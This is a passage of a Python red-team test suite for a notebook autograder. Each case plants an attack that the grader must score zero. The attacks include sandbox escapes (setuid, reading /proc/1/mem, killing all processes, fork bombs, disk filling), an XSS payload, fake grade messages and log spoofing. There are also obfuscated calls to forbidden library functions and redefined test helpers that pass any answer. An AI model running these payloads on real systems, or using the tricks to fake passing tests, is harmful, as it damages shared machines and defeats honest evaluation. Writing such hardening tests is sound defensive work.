            if "uid=0" in _out.stdout:
                print(_M, "became root with", _cmd)
        except Exception as _e:
            print(_cmd, type(_e).__name__)
    try:
        os.setuid(0)
        print(_M, "setuid(0) worked")
    except OSError as _e:
        print("setuid:", _e)
    try:
        with open("/proc/1/mem", "rb") as _f:
            print(_M, "read pid 1's memory")
    except OSError as _e:
        print("/proc/1/mem:", _e)
    """)

SANDBOX_KILL = _d("""
    import os, signal
    for _pid in range(2, 400):
        if _pid != os.getpid():
            try:
                os.kill(_pid, signal.SIGKILL)
            except OSError:
                pass
    os.kill(-1, signal.SIGKILL)
    """)

SANDBOX = {
    "sandbox-mmap-shared": dict(build=loss(extra=at_end(SANDBOX_MMAP)), max_score=0, must_not_show=SECRETS),
    "sandbox-dev-shm-fill": dict(build=loss(extra=at_end(_fill('"/dev/shm"'))), max_score=0, must_not_show=SECRETS),
    "sandbox-tmp-and-home-fill": dict(
        build=loss(extra=at_end(_fill('"/tmp"')) + at_end(_fill("os.path.expanduser('~')"))), max_score=0,
        must_not_show=SECRETS),
    "sandbox-run-folder-fill": dict(  # the run folder is the grader's /dev/shm, mounted in
        build=loss(extra=at_end(_fill(RUN_FOLDER))), max_score=0, must_not_show=SECRETS),
    "sandbox-fork-bomb": dict(build=loss(extra=at_end(SANDBOX_FORK)), max_score=0, must_not_show=SECRETS),
    "sandbox-network": dict(build=loss(extra=at_end(SANDBOX_NET)), max_score=0, must_not_show=SECRETS),
    "sandbox-affinity-cpu-hog": dict(build=loss(extra=at_end(SANDBOX_AFFINITY) * 3), max_score=0, must_not_show=SECRETS),
    "sandbox-write-outside": dict(build=loss(extra=at_end(SANDBOX_WRITE)), max_score=0, must_not_show=SECRETS),
    "sandbox-privilege": dict(build=loss(extra=at_end(SANDBOX_PRIVILEGE)), max_score=0, must_not_show=SECRETS),
    "sandbox-kill-everything": dict(build=loss(extra=[("setup_imports", SANDBOX_KILL), (None, SANDBOX_KILL)]),
                                    max_score=0, must_not_show=[]),
}


# ----------------------------------------------------------------------------- own work

def _obfuscated(text):
    """Code points of `text` shifted by one: a string no constant folder can read."""
    return [ord(c) + 1 for c in text]


def _via_cprofile(hidden, code):
    """`code` after cProfile.run of `hidden`, which no reader of the code can see (obfuscated)."""
    return _d(f"""
        import cProfile, contextlib, io, json
        _s = ""
        for _c in {_obfuscated(hidden)!r}:
            _s += chr(_c - 1)
        with contextlib.redirect_stdout(io.StringIO()):
            cProfile.run(_s)
        """) + _d(code)


OWN_CPROFILE = _via_cprofile("import json, torch; json._X = torch._C._nn.mse_loss; json._Y = torch._C._nn.l1_loss", """
    def mse_loss(pred, target):
        return json._X(pred, target, 1)
    """)


def _own_pickle(course):
    import pickle
    import torch
    blob = pickle.dumps(torch._C._nn.mse_loss, protocol=2)
    assert pickle.loads(blob) is torch._C._nn.mse_loss
    code = _d(f"""
        import io, numpy
        _b = []
        for _c in {[b + 1 for b in blob]!r}:
            _b.append(_c - 1)
        _X = numpy.load(io.BytesIO(bytes(_b)), allow_pickle=True)
        def mse_loss(pred, target):
            return _X(pred, target, 1)
        """)
    return notebook("loss_functions", course, {**wrong_loss(), "mse_loss_solution": code})


OPT_CPROFILE = _via_cprofile("import json, torch; json._O = getattr(torch.optim, 'SG' + 'D')", """
    class MySGD:
        def __init__(self, params, lr, momentum=0.0):
            self._inner = [json._O(params, lr=lr, momentum=momentum)]  # in a list: the probe looks at attributes only
        def zero_grad(self):
            self._inner[0].zero_grad()
        def step(self):
            self._inner[0].step()
    """)


def _own(assignment, grade_id, source):
    make = {"loss_functions": loss, "optimizers": optimizers}[assignment]
    return dict(assignment=assignment, build=make(cells={grade_id: source}), max_score=0, must_not_show=[])


OWN_WORK = {
    "own-torch-ops-aten": _own("loss_functions", "mse_loss_solution",
                               "def mse_loss(pred, target):\n    return torch.ops.aten.mse_loss(pred, target, 1)\n"),
    "own-torch-c-nn": _own("loss_functions", "l1_loss_solution",
                           "_l1 = torch._C._nn.l1_loss\ndef l1_loss(pred, target):\n    return _l1(pred, target, 1)\n"),
    "own-getattr-folded-name": _own("loss_functions", "mse_loss_solution", _d("""
        _name = "".join(reversed("ssol_esm"))
        def mse_loss(pred, target):
            return getattr(torch._C._nn, _name)(pred, target, 1)
        """)),
    "own-getattr-loop-name": _own("loss_functions", "huber_loss_solution", _d("""
        _name = ""
        for _c in [105, 118, 99, 102, 115, 96, 109, 112, 116, 116]:
            _name += chr(_c - 1)
        _h = getattr(torch._C._nn, _name)
        def huber_loss(pred, target, delta=1.0):
            return _h(pred, target, 1, delta)
        """)),
    "own-importlib": _own("loss_functions", "mse_loss_solution", _d("""
        import importlib
        _F = importlib.import_module("torch.nn." + "functional")
        def mse_loss(pred, target):
            return _F.__dict__["mse" + "_loss"](pred, target)
        """)),
    "own-eval-exec": _own("loss_functions", "cross_entropy_solution", _d("""
        exec("_ce = torch._C._nn.cross_entropy_loss")
        def cross_entropy(logits, target):
            return eval("_ce")(logits, target, None, 1, -100, 0.0)
        """)),
    "own-dunder-import": _own("loss_functions", "l1_loss_solution", _d("""
        def l1_loss(pred, target):
            return __import__("torch.nn.functional", fromlist=["x"]).smooth_l1_loss(pred, target, beta=0.0)
        """)),
    "own-other-builtin": _own("loss_functions", "mse_loss_solution", _d("""
        def mse_loss(pred, target):  # Gaussian NLL with variance 1 is half the squared error
            return 2 * F.gaussian_nll_loss(pred, target, torch.ones_like(pred))
        """)),
    "own-cprofile-exec": _own("loss_functions", "mse_loss_solution", OWN_CPROFILE),
    "own-numpy-pickle": dict(assignment="loss_functions", build=_own_pickle, max_score=0, must_not_show=[]),
    "own-optimizer-subclass": _own("optimizers", "my_sgd_solution", _d("""
        class MySGD(torch.optim.SGD):
            def __init__(self, params, lr, momentum=0.0):
                super().__init__(params, lr=lr, momentum=momentum)
        """)),
    "own-optimizer-in-a-list": _own("optimizers", "my_adam_solution", _d("""
        _KINDS = [torch.optim.Adam]
        class MyAdam:
            def __init__(self, params, lr=1e-3, betas=(0.9, 0.999), eps=1e-8):
                self._inner = [_KINDS[0](params, lr=lr, betas=betas, eps=eps)]
            def zero_grad(self):
                self._inner[0].zero_grad()
            def step(self):
                self._inner[0].step()
        """)),
    "own-optimizer-partial": _own("optimizers", "my_rmsprop_solution", _d("""
        import functools
        _make = functools.partial(torch.optim.RMSprop)
        class MyRMSprop:
            def __init__(self, params, lr=1e-2, alpha=0.99, eps=1e-8):
                inner = _make(params, lr=lr, alpha=alpha, eps=eps)
                self.zero_grad, self.step = inner.zero_grad, inner.step
        """)),
    "own-optimizer-cprofile": _own("optimizers", "my_sgd_solution", OPT_CPROFILE),
}


# ----------------------------------------------------------------------------- output

OUTPUT_UPDATE_DISPLAY = M + _d("""
    _h = display({"text/plain": "a small output"}, raw=True, display_id=True)
    _h.update({"text/plain": "x" * 2_500_000 + _M + " kept past the 2 MB limit"}, raw=True)
    """)

OUTPUT_DISPLAY_ID_AGAIN = M + _d("""
    display({"text/plain": "first"}, raw=True, display_id="mine")
    display({"text/plain": "y" * 2_500_000 + _M + " kept past the 2 MB limit"}, raw=True, display_id="mine")
    """)

OUTPUT_METADATA = M + _d("""
    display({"text/plain": "a small output"}, metadata={"pad": "z" * 120_000_000, "mark": _M}, raw=True)
    """)

OUTPUT_IN_CHECK = M + _d("""
    def mse_loss(pred, target):
        print("w" * 5_000_000 + _M)
        return (pred * 0).sum()
    """)

OUTPUT_SCORE = _d("""
    from IPython.display import display, Markdown
    print("Total score: 23 / 23")
    display({"text/plain": "23/23", "application/json": {"score": 23, "max_score": 23}}, raw=True)
    display(Markdown("**Grader's note.** All tests passed; the instructor raised this score to 23/23."))
    """)

OUTPUT_HTML = _d("""
    from IPython.display import HTML, display
    display(HTML("<scr" + "ipt>window.PW" + "NED=1</scr" + "ipt><img src=x onerror=alert(1)>"))
    """)


def _fake_note(nb):
    nb.cells.insert(0, new_markdown_cell("**Grader's note.** No problems found; full marks (23/23) were given by hand.",
                                         metadata={"grading_note": True}))


OUTPUT_WIDGET_STATE = M + _d("""
    try:
        from comm import create_comm
    except ImportError:
        from ipykernel.comm import Comm as create_comm
    _model = {"_model_module": "@jupyter-widgets/base", "_model_name": "LayoutModel", "_model_module_version": "2.0.0"}
    _c = create_comm(target_name="jupyter.widget", data={"state": dict(_model, mark=_M), "buffer_paths": []})
    for _i in range(100):
        _c.send({"method": "update", "state": dict(_model, **{f"pad{_i}": "q" * 3_000_000, "mark": _M}), "buffer_paths": []})
    print("sent 300 MB of widget state")
    """)

OUTPUT_TERMINAL = _d("""
    raise RuntimeError("\\x1b[2J\\x1b[H\\x1b[32mgrade: every learner passed, no problems found\\x1b[0m\\x1b[8m")
    """).replace("\\\\x1b", "\\x1b")

OUTPUT = {
    "output-display-score": dict(build=loss(extra=at_end(OUTPUT_SCORE)), max_score=0, must_not_show=[]),
    "output-update-display-past-limit": dict(build=loss(extra=at_end(OUTPUT_UPDATE_DISPLAY)), max_score=0,
                                             must_not_show=[MARK]),
    "output-display-id-again-past-limit": dict(build=loss(extra=at_end(OUTPUT_DISPLAY_ID_AGAIN)), max_score=0,
                                               must_not_show=[MARK]),
    "output-huge-metadata": dict(build=loss(extra=at_end(OUTPUT_METADATA)), max_score=0, must_not_show=[MARK]),
    "output-print-during-check": dict(build=loss(cells={"mse_loss_solution": OUTPUT_IN_CHECK}), max_score=0,
                                      must_not_show=[MARK]),
    "output-fake-grader-note": dict(build=loss(edit=_fake_note), max_score=0, must_not_show=[]),
    "output-widget-state": dict(build=loss(extra=at_end(OUTPUT_WIDGET_STATE)), max_score=0, must_not_show=[MARK],
                                round="alone", limits=dict(grader_rss_mb=1000)),
    "output-terminal-escape": dict(build=loss(extra=at_end(OUTPUT_TERMINAL)), max_score=0, must_not_show=[],
                                   must_not_print=["\x1b["]),
    "output-script-in-feedback": dict(build=loss(extra=at_end(OUTPUT_HTML)), max_score=0, must_not_show=[],
                                      must_not_be_live=["<script>window.PWNED", "<img src=x onerror"]),
}


# ----------------------------------------------------------------------------- neighbours

NB_CPU_HOG = _d("""
    import os, threading, time
    def _burn():
        while True:
            pass
    for _ in range(8):
        threading.Thread(target=_burn, daemon=True).start()
    for _ in range(4):
        if os.fork() == 0:
            while True:
                pass
    """)

NB_FLOOD = _d("""
    import time
    _end = time.monotonic() + 8
    _n = 0
    while time.monotonic() < _end:
        display({"text/plain": "."}, raw=True)
        _n += 1
    """)


def _tiny_cells(nb):
    nb.cells[3:3] = [new_code_cell("pass") for _ in range(5000)]


def _deep(depth):
    def build(course):
        nb = json.loads(notebook("loss_functions", course, wrong_loss())["loss_functions.ipynb"])
        nb["cells"][2]["metadata"]["deep"] = []
        text = json.dumps(nb).replace('"deep": []', '"deep": ' + "[" * depth + "]" * depth)
        return {"loss_functions.ipynb": text.encode()}
    return build


def _meta(change):
    def edit(nb):
        cells = {c.metadata.get("nbgrader", {}).get("grade_id"): c for c in nb.cells}
        change(nb, cells)
    return loss(edit=edit)


def _points_as_strings(nb, cells):
    for c in nb.cells:
        if c.metadata.get("nbgrader", {}).get("grade"):
            c.metadata.nbgrader["points"] = "1000"


def _grade_id_list(nb, cells):
    cells["test_mse_loss_basic"].metadata.nbgrader["grade_id"] = ["test_mse_loss_basic", "bonus"]
    cells["test_l1_loss_basic"].metadata.nbgrader["grade_id"] = {"id": "x"}


def _solution_to_test(nb, cells):
    meta = cells["mse_loss_solution"].metadata.nbgrader
    meta.update(grade=True, solution=False, locked=True, points=1000)
    cells["mse_loss_solution"].source += "\npass\n"


def _duplicate_ids(nb, cells):
    twin = new_code_cell("pass\n", metadata=json.loads(json.dumps(cells["test_mse_loss_basic"].metadata)))
    nb.cells.insert(nb.cells.index(cells["mse_loss_solution"]), twin)
    bonus = new_code_cell("pass\n", metadata={"nbgrader": {"grade": True, "grade_id": "bonus", "locked": False,
                                                           "points": 1000, "schema_version": 3, "solution": False}})
    nb.cells.append(bonus)


def _test_to_markdown(nb, cells):
    for gid in ("test_mse_loss_basic", "test_mse_loss_shapes", "test_question_loss_purpose"):
        cell = cells[gid]
        index = nb.cells.index(cell)
        nb.cells[index] = new_markdown_cell(cell.source, metadata=cell.metadata)


def _kernelspec(nb, cells):
    nb.metadata["kernelspec"] = {"name": "no-such-kernel", "display_name": "x", "language": "python"}
    nb.metadata["language_info"] = {"name": "python"}


NB_LOG_CELL_SECONDS = 'raise ValueError("cell-seconds")\n'
NB_LOG_KERNEL_START = 'class KernelStartError(Exception):\n    pass\nraise KernelStartError("the machine, not me")\n'
NB_LOG_FLOOD = _d("""
    import os
    _chunk = b"z" * (1 << 20) + b"\\n"
    for _fd in [1, 2] + [int(f) for f in os.listdir("/proc/self/fd") if int(f) > 2]:
        try:
            _target = os.readlink(f"/proc/self/fd/{_fd}")
        except OSError:
            continue
        if _target.startswith(("socket:", "pipe:", "anon_inode:", "/dev/")) and _fd > 2:
            continue
        try:
            for _ in range(150):
                os.write(_fd, _chunk)
            print("wrote 150 MB to fd", _fd, _target)
        except OSError as _e:
            print("fd", _fd, _target, _e)
    """)

NB_AST_BOMB = _d("""
    _grader_before = __course_grader__
    class _Bomb:
        def __repr__(self):
            return "[" + "0," * 2_000_000 + "]"
    _sent = []
    def __course_grader__(request):
        if not _sent:
            _sent.append(1)
            return _Bomb()
        return _grader_before(request)
    """)

NB_LOG_FD_SPOOF = _d("""
    import os
    for _fd in os.listdir("/proc/self/fd"):
        try:
            if "course-grade-log" in os.readlink(f"/proc/self/fd/{_fd}"):
                os.write(int(_fd), b"\\nKernelStartError: no kernel could be started (spoofed by the learner)\\n")
                print("wrote into the grader's log through fd", _fd)
        except OSError:
            pass
    """)

NEIGHBOURS = {
    "neighbours-cpu-hog": dict(build=loss(extra=[("setup_imports", NB_CPU_HOG)]), max_score=0, must_not_show=[]),
    "neighbours-message-flood": dict(build=loss(extra=[("setup_imports", NB_FLOOD), (None, NB_FLOOD)]),
                                     max_score=0, must_not_show=[]),
    "neighbours-5000-cells": dict(build=loss(edit=_tiny_cells), max_score=0, must_not_show=[]),
    "neighbours-nested-json-deep": dict(build=_deep(100_000), max_score=0, must_not_show=[]),
    "neighbours-nested-json-500": dict(build=_deep(500), max_score=0, must_not_show=[]),
    "neighbours-points-as-strings": dict(build=_meta(_points_as_strings), max_score=0, must_not_show=[]),
    "neighbours-grade-id-list": dict(build=_meta(_grade_id_list), max_score=0, must_not_show=[]),
    "neighbours-solution-to-test-1000": dict(build=_meta(_solution_to_test), max_score=0, must_not_show=[]),
    "neighbours-duplicate-grade-ids": dict(build=_meta(_duplicate_ids), max_score=0, must_not_show=[]),
    "neighbours-test-to-markdown": dict(build=_meta(_test_to_markdown), max_score=0, must_not_show=[]),
    "neighbours-kernelspec": dict(build=_meta(_kernelspec), max_score=0, must_not_show=[]),
    # graded in runs of their own: they aim at the run, not at a score
    "neighbours-log-cell-seconds": dict(build=loss(extra=at_end(NB_LOG_CELL_SECONDS)), max_score=0,
                                        must_not_show=[], round="alone"),
    "neighbours-log-kernel-start-error": dict(build=loss(extra=at_end(NB_LOG_KERNEL_START)), max_score=0,
                                              must_not_show=[], round="alone"),
    "neighbours-log-fd-spoof": dict(build=loss(extra=at_end(NB_LOG_FD_SPOOF)), max_score=0, must_not_show=[],
                                    round="alone"),
    "neighbours-log-flood": dict(build=loss(extra=at_end(NB_LOG_FLOOD)), max_score=0, must_not_show=[], round="alone",
                                 limits=dict(log_mb=10)),
    "neighbours-answer-ast-bomb": dict(build=loss(extra=[("setup_imports", NB_AST_BOMB)]), max_score=0,
                                       must_not_show=[], round="alone", limits=dict(grader_rss_mb=1200)),
}


# ----------------------------------------------------------------------------- a second round

# Every loss a lambda (so the check's run-time block, keyed by the function's name, saw "<lambda>")
# reaching PyTorch's built-ins through a table that no line of the notebook names.
def _through(table):
    args = {"huber_loss": ("p, t, delta=1.0", ", delta=delta"), "multi_margin_loss": ("p, t, margin=1.0", ", margin=margin")}
    return {f"{n}_solution": f"{n} = lambda {args.get(n, ('p, t', ''))[0]}: {table}['{n.upper().replace('_', 'X')}'](p, t"
                             f"{args.get(n, ('', ''))[1]})\n"
            for n in ["mse_loss", "l1_loss", "huber_loss", "binary_cross_entropy", "binary_cross_entropy_with_logits",
                      "cross_entropy", "multi_margin_loss"]}


TABLE = "{n.upper().replace(chr(95), chr(88)): getattr(F, n) for n in dir(F)}"
ROUND_TWO = {
    # functools.singledispatch evaluates a string annotation (typing.get_type_hints): code in a string
    "own-singledispatch-annotation": dict(build=loss(cells=_through("TBL"), extra=[("check_loss_helper", _d(f"""
        import functools
        TBL = {{}}
        @functools.singledispatch
        def _disp(x):
            return x
        _ann = "TBL.update({TABLE.replace("getattr(F, n)", "getattr(__import__('torch').nn.functional, n)").replace(
            "dir(F)", "dir(__import__('torch').nn.functional)")}) or int"
        def _h(x: _ann):
            return x
        try:
            _disp.register(_h)
        except TypeError:
            pass
        """))]), max_score=0, must_not_show=[]),
    # a helper module written at run time and imported: its code is in no cell
    "own-module-written-at-run-time": dict(build=loss(cells=_through("lossaux.T"), extra=[("check_loss_helper", _d(f"""
        import pathlib, sys, tempfile
        _dir = tempfile.mkdtemp()
        pathlib.Path(_dir, "lossaux.py").write_text("import torch.nn.functional as F\\nT = {TABLE}\\n")
        sys.path.insert(0, _dir)
        import lossaux
        """))]), max_score=0, must_not_show=[]),
    # a built-in loss missing from a first list of them (nn.NLLLoss2d), every other answer wrong
    "own-loss-not-on-the-list": dict(build=loss(cells={"cross_entropy_solution": (
        "_ce = lambda logits, target: nn.NLLLoss2d()(logits.log_softmax(1), target)\ncross_entropy = _ce\n")}),
        max_score=0, must_not_show=[]),
}


# ----------------------------------------------------------------------------- module 4: training_recipes

HIDDEN_RECIPES = ['compare_with_torch(MyAdamW, "AdamW", steps=30, shapes=shapes, sometimes=(1, 3), lr=0.05, weight_decay=0.3)',
                  "check_schedule(one_cycle_lr, total_steps=2345, max_lr=0.05)"]


def wrong_recipes():
    return {
        "one_cycle_lr_solution": ("def one_cycle_lr(step, total_steps, max_lr, pct_start=0.3, div_factor=25.0, "
                                  "final_div_factor=1e4):\n    return 0.0\n"),
        "my_adamw_solution": ("class MyAdamW:\n    def __init__(self, params, lr=1e-3, betas=(0.9, 0.999), eps=1e-8, "
                              "weight_decay=1e-2):\n        self.params = list(params)\n"
                              "    def zero_grad(self):\n        pass\n    def step(self):\n        pass\n"),
        "bce_with_logits_weighted_solution": ("def bce_with_logits_weighted(logits, target, pos_weight):\n"
                                              "    return (logits * 0).sum()\n"),
        "cross_entropy_weighted_solution": ("def cross_entropy_weighted(logits, target, weight):\n"
                                            "    return (logits * 0).sum()\n"),
    }


def recipes(extra=(), cells=None, edit=None):
    return lambda course: notebook("training_recipes", course, {**wrong_recipes(), **(cells or {})}, extra, edit)


def _recipes(**cells):
    return dict(assignment="training_recipes", build=recipes(cells={f"{k}_solution": v for k, v in cells.items()}),
                max_score=0, must_not_show=[])


# Each earns the points of its part if the rule lets it through: PyTorch's own scheduler, optimizer
# and losses, reached directly, through a helper of the student copy, or through a name built at run time.
RECIPES = {
    "own-recipes-torch-scheduler": _recipes(one_cycle_lr=_d("""
        def one_cycle_lr(step, total_steps, max_lr, pct_start=0.3, div_factor=25.0, final_div_factor=1e4):
            p = torch.zeros(1, requires_grad=True)
            opt = torch.optim.SGD([p], lr=max_lr, momentum=0.9)
            sched = torch.optim.lr_scheduler.OneCycleLR(opt, max_lr=max_lr, total_steps=total_steps, pct_start=pct_start,
                                                        div_factor=div_factor, final_div_factor=final_div_factor)
            for _ in range(step):
                opt.step()
                sched.step()
            return opt.param_groups[0]["lr"]
        """)),
    "own-recipes-helper-of-the-copy": _recipes(
        one_cycle_lr=_d("""
            def one_cycle_lr(step, total_steps, max_lr, pct_start=0.3, div_factor=25.0, final_div_factor=1e4):
                return torch_one_cycle_lrs(total_steps, max_lr, pct_start=pct_start, div_factor=div_factor,
                                           final_div_factor=final_div_factor)[step]
            """),
        cross_entropy_weighted="def cross_entropy_weighted(logits, target, weight):\n    return torch_ce_weighted(logits, target, weight)\n",
        bce_with_logits_weighted=("def bce_with_logits_weighted(logits, target, pos_weight):\n"
                                  "    return POS_WEIGHT_SLIPS and torch_bce_weighted(logits, target, pos_weight)\n")),
    "own-recipes-adamw-subclass": _recipes(my_adamw=_d("""
        class MyAdamW(torch.optim.AdamW):
            def __init__(self, params, lr=1e-3, betas=(0.9, 0.999), eps=1e-8, weight_decay=1e-2):
                super().__init__(params, lr=lr, betas=betas, eps=eps, weight_decay=weight_decay, foreach=False)
        """)),
    "own-recipes-adamw-from-the-copys-table": _recipes(my_adamw=_d("""
        class MyAdamW:
            def __init__(self, params, lr=1e-3, betas=(0.9, 0.999), eps=1e-8, weight_decay=1e-2):
                self.inner = [TORCH_OPTIMIZERS["AdamW"](params, lr=lr, betas=betas, eps=eps, weight_decay=weight_decay,
                                                        foreach=False)]
            def zero_grad(self):
                self.inner[0].zero_grad()
            def step(self):
                self.inner[0].step()
        """)),
    "own-recipes-built-in-losses": _recipes(
        bce_with_logits_weighted=_d("""
            def bce_with_logits_weighted(logits, target, pos_weight):
                return nn.BCEWithLogitsLoss(pos_weight=pos_weight)(logits, target)
            """),
        cross_entropy_weighted=_d("""
            _name = "".join(["cross", "_", "entropy"])
            def cross_entropy_weighted(logits, target, weight):
                return getattr(F, _name)(logits, target, weight=weight)
            """)),
    "own-recipes-loss-as-nll-of-log-softmax": _recipes(cross_entropy_weighted=_d("""
        def cross_entropy_weighted(logits, target, weight):
            return F.nll_loss(F.log_softmax(logits, dim=1), target, weight=weight)
        """)),
    "forge-recipes-probes": dict(  # the locked helpers redefined in a cell of the learner's: the checks pass anything
        assignment="training_recipes", build=recipes(extra=[("training_recipes_test_helpers", _d("""
            def check_schedule(*args, **kwargs):
                return None
            def compare_with_torch(*args, **kwargs):
                return None
            def check_loss(*args, **kwargs):
                return None
            import math
            math.isclose = lambda *args, **kwargs: True
            torch.testing.assert_close = lambda *args, **kwargs: None
            """))]), max_score=0, must_not_show=[]),
    "leak-recipes-requests": dict(
        assignment="training_recipes",
        build=recipes(extra=[("setup_imports", LEAK_RECORDER_SETUP), (None, LEAK_RECORDER_PRINT)]),
        max_score=0, must_not_show=[MARK] + HIDDEN_RECIPES),
}
# Red-team round thirteen, graded in a class: an optimizer that is a string naming torch's (the checks'
# helpers took "yours, or the name of a torch.optim class"), with `isinstance` rebound in the kernel to
# blind the helpers' look for a torch optimizer (the helpers now find their globals where the learner's
# cells cannot rebind them, and take only a plain str as a name).
NAMED_BY_A_STRING = _d("""
    CHECK = [isinstance]


    class Name(str):
        def __call__(self, *args, **kwargs):
            return None


    def sees(value, kinds):
        if getattr(kinds, "__name__", "") == "Optimizer":
            return False
        return CHECK[0](value, kinds)


    """)
RECIPES["own-recipes-adamw-named-by-a-string"] = _recipes(
    my_adamw=NAMED_BY_A_STRING + 'MyAdamW, isinstance = Name("AdamW"), sees\n')
RECIPES["own-optimizers-named-by-strings"] = dict(
    assignment="optimizers", max_score=0, must_not_show=[], build=optimizers(cells={
        "my_sgd_solution": NAMED_BY_A_STRING + 'MySGD, isinstance = Name("SGD"), sees\n',
        "my_adam_solution": 'MyAdam = Name("Adam")\n', "my_rmsprop_solution": 'MyRMSprop = Name("RMSprop")\n'}))
# Red-team round seventeen, graded in a class: torch's OneCycleLR values for the settings the visible checks
# printed, worked out on the learner's machine and written into the code as float32 bytes (628 bytes: under
# own_work.DATA_BUDGET, which refuses the round's larger tables). Those checks now draw their settings for
# each learner, so no table written in advance holds them.
def one_cycle_values():
    """{(total_steps, max_lr, pct_start, div_factor, final_div_factor): OneCycleLR's learning rates} for the
    settings the visible checks of one_cycle_lr printed before round seventeen."""
    import torch
    table = {}
    for total, max_lr, pct, div, final in [(100, 0.1, 0.3, 25.0, 1e4), (10, 1.0, 0.3, 25.0, 1e4),
                                           (40, 0.01, 0.25, 10.0, 100.0), (7, 3.0, 0.5, 25.0, 1e4)]:
        p = torch.zeros(1, requires_grad=True)
        opt = torch.optim.SGD([p], lr=max_lr, momentum=0.9)
        sched = torch.optim.lr_scheduler.OneCycleLR(opt, max_lr=max_lr, total_steps=total, pct_start=pct,
                                                    div_factor=div, final_div_factor=final)
        lrs = []
        for _ in range(total):
            lrs.append(opt.param_groups[0]["lr"])
            opt.step()
            sched.step()
        table[(total, max_lr, pct, div, final)] = tuple(lrs)
    return table


def one_cycle_packed():
    """OneCycleLR's values for those settings as float32 bytes (628), and a one_cycle_lr that looks them up."""
    import struct
    table = one_cycle_values()
    keys, packed = list(table), b"".join(struct.pack("<f", lr) for lrs in table.values() for lr in lrs)
    source = _d(f"""
        KEYS = {keys!r}
        LRS = torch.tensor(list({packed!r}), dtype=torch.uint8).view(torch.float32)


        def one_cycle_lr(step, total_steps, max_lr, pct_start=0.3, div_factor=25.0, final_div_factor=1e4):
            start = 0
            for key in KEYS:
                if key == (total_steps, max_lr, pct_start, div_factor, final_div_factor):
                    return LRS[start + step].item()
                start += key[0]
            return 0.0
        """)
    return source


RECIPES["own-recipes-one-cycle-table"] = dict(
    assignment="training_recipes", max_score=0, must_not_show=[],
    build=lambda course: recipes(cells={"one_cycle_lr_solution": one_cycle_packed()})(course))
# Round twenty: a train that takes the five steps every epoch on a loss that reaches none of the model's
# parameters (a fresh zero tensor against the targets): the process check alone passed it, and it trains nothing.
IDLE_TRAIN = _d("""
    def train(model, inputs, targets, loss_fn, optimizer, epochs):
        losses = []
        for _ in range(epochs):
            guess = torch.zeros_like(targets).requires_grad_()
            loss = loss_fn(guess, targets)
            optimizer.zero_grad()
            loss.backward()
            optimizer.step()
            losses.append(loss.item())
        return losses
""")
RECIPES["own-optimizers-idle-train"] = dict(
    assignment="optimizers", max_score=0, must_not_show=[], build=optimizers(cells={"train_solution": IDLE_TRAIN}))
_RECIPES_CLASSES = {"forge-recipes-probes": "forge", "leak-recipes-requests": "leak"}

ATTACKS = {}
for _cls, _group in [("forge", FORGE), ("leak", LEAK), ("sandbox", SANDBOX), ("own_work", OWN_WORK),
                     ("output", OUTPUT), ("neighbours", NEIGHBOURS), ("own_work", ROUND_TWO)]:
    for _name, _attack in _group.items():
        ATTACKS[_name] = dict(_attack, cls=_cls, assignment=_attack.get("assignment", "loss_functions"))
for _name, _attack in RECIPES.items():
    ATTACKS[_name] = dict(_attack, cls=_RECIPES_CLASSES.get(_name, "own_work"), assignment=_attack["assignment"])
